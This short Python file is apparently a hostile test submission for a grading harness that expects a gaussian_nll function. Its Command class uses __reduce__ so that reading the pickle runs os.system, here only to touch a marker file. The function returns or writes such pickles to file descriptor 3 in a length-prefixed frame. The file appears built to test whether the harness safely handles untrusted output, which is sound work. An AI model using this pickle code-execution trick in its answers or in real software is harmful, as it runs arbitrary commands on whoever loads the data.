"""Answers with a pickle that runs a command when it is read, and with objects that contain one."""

import os
import pickle
import struct

import numpy as np


class Command:
    def __reduce__(self):
        return os.system, (f"touch {RESULTS}/command",)


def gaussian_nll(mean, log_std, action):
    if len(mean) % 2:
        return np.array([Command()], dtype=object)
    payload = pickle.dumps(Command())
    os.write(3, struct.pack("<II", len(payload), len(payload)) + payload + payload)
